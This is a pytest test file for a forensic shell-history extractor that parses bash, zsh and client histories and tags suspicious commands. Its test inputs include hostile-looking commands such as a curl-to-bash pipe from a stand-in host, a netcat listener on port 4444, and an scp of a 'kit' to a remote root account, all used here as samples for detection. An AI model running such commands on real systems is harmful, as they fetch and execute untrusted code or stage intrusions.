"""Shell and client history (extractors.shell_history): formats, times, users, tags."""
from __future__ import annotations

import pytest

from extractors.base import Source
from extractors.shell_history import extract, tag_command


def _run(path: str, data: bytes) -> list:
    return list(extract(data, Source(None, path, None, path.rsplit("/", 1)[-1])))


@pytest.mark.parametrize("command, tags", [
    ("wget http://x/a", ["wget"]), ("cd /tmp;curl -O http://x/a", ["curl"]), ("curl -s http://x/i.sh | bash", ["curl", "pipe-to-shell"]),
    ("echo wget curl ssh", []), ("grep -r nc .", []), ("sudo -u bob crontab -e", ["crontab"]),
    ("chmod +x a.out", ["chmod+x"]), ("chmod u+x a", ["chmod+x"]), ("chmod 755 a", ["chmod+x"]), ("chmod 644 a", []),
    ("scp kit.tgz root@203.0.113.7:/tmp/", ["scp"]), ("ssh -p 2222 root@h", ["ssh"]), ("nc -lvp 4444", ["nc"]),
    ("torsocks wget http://x.onion/", ["tor", "wget"]), ("tor -f /etc/tor/torrc", ["tor"]), ("tor browser", []),
    ("cat list.txt | mail -s hi a@b", ["mail"]), ("swaks --to a@b --server 127.0.0.1", ["mail"]),
    ("/usr/sbin/sendmail -t < msg", ["mail"]), ("nohup ./spamd &", ["run-local"]), ("ls -la", []),
    ("x=$(curl -s http://x)", ["curl"]), ("FOO=1 BAR=2 nc h 25", ["nc"]),
])
def test_tags(command: str, tags: list[str]) -> None:
    assert tag_command(command) == tags


def test_bash_with_timestamps() -> None:
    data = b"ls\n#1796380000\nwget http://x\n#1796380060\n\nid\n"
    found = _run("/home/cosma/.bash_history", data)
    assert [(f.line_no, f.time, f.command, f.user, f.offset) for f in found] == [
        (1, None, "ls", "cosma", 0), (3, "2026-12-04T10:26:40Z", "wget http://x", "cosma", 15), (6, None, "id", "cosma", 42)]


def test_zsh_extended_multiline_and_metafied() -> None:
    data = b": 1796380200:0;echo caf\x83\xa9\n: 1796380300:3;for h in a; do\\\n  ssh $h\\\ndone\nplain\n"
    found = _run("/root/.zsh_history", data)
    assert found[0].command == b"echo caf\x89".decode("utf-8", "replace")  # 0x83 0xa9 unmetafied: 0xa9 ^ 0x20
    assert found[1].command == "for h in a; do\n  ssh $h\ndone" and found[1].tags == ["ssh"]
    assert (found[1].line_no, found[2].line_no, found[2].time) == (2, 5, None)
    assert {f.user for f in found} == {"root"}


def test_clients() -> None:
    (m,) = _run("/root/.mysql_history", b"_HiStOrY_V2_\nselect\\040*\\040from\\040t;\n")
    assert (m.shell, m.command, m.tags) == ("mysql", "select * from t;", [])
    (p,) = _run("/home/a/.python_history", b"import os\n")
    assert (p.shell, p.user) == ("python", "a")
    found = _run("/home/a/.lesshst", b".less-history-file:\n.search\n\"password\n.shell\n\"ls\n")
    assert [f.command for f in found] == ["password", "ls"]


def test_not_history() -> None:
    assert _run("/home/a/notes.txt", b"wget x\n") == []
    assert _run("/home/a/.bash_history.gz", b"wget x\n") == []
    assert _run("/home/a/.bash_history", b"\x00\x01\x02") == []
